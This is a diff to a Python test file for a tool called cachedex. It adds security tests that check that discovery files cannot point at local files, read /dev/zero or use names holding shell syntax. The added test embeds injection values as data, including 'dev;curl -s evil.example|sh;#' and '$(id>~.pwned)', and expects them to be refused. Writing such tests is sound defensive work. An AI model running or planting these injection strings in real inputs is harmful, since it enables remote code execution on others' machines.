@@ -69,7 +69,7 @@ def test_tags_from_over_http(http_server, tmp_path: Path) -> None:  # type: igno
     assert config.tags[0].mirrors[0].url == f"{http_server.url}/develop"
 
 
-def test_a_discovery_file_over_http_may_not_name_local_mirrors(http_server, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_sec4_a_discovery_file_over_http_may_not_name_local_mirrors(http_server, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
     """reliability review SEC-4: a remote file pointing cachedex at this machine's files."""
     discovery = {
         "secret": [{"label": "root", "url": "file:///etc/v3/manifests/index/index.manifest.json"}],
@@ -80,10 +80,24 @@ def test_a_discovery_file_over_http_may_not_name_local_mirrors(http_server, tmp_
         discovered(_write(tmp_path, f"tags_from: {http_server.url}/index.json\n"))
 
 
-def test_a_discovery_file_that_is_not_a_regular_file_or_too_big(tmp_path: Path) -> None:
+def test_hang4_a_discovery_file_that_is_not_a_regular_file_or_too_big(tmp_path: Path) -> None:
     """reliability review HANG-4: tags_from: /dev/zero grew memory without end."""
     with pytest.raises(ConfigError, match="is not a regular file"):
         discovered(_write(tmp_path, "tags_from: /dev/zero\n"))
     (tmp_path / "big.json").write_bytes(b" " * 2000)
     with pytest.raises(ConfigError, match="larger than 1,000 bytes"):
         discovered(_write(tmp_path, "tags_from: big.json\nlimits: {discovery_bytes: 1000}\n"))
+
+
+def test_sec3_discovery_names_holding_shell_syntax_are_refused(http_server, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    index = "good/v3/manifests/index/index.manifest.json"
+    discovery = {
+        "dev;curl -s evil.example|sh;#": [{"label": "root", "url": index}],
+        "ok": [{"label": "root", "url": index}, {"label": "e4s$(id>~.pwned)", "url": index}],
+    }
+    (http_server.state.root / "index.json").write_text(json.dumps(discovery))
+    with pytest.raises(ConfigError) as caught:
+        discovered(_write(tmp_path, f"tags_from: {http_server.url}/index.json\n"))
+    problems = caught.value.problems
+    assert any("'dev;curl -s evil.example|sh;#' may hold only letters" in p for p in problems), problems
+    assert any("e4s$(id>~.pwned)" in p for p in problems), problems
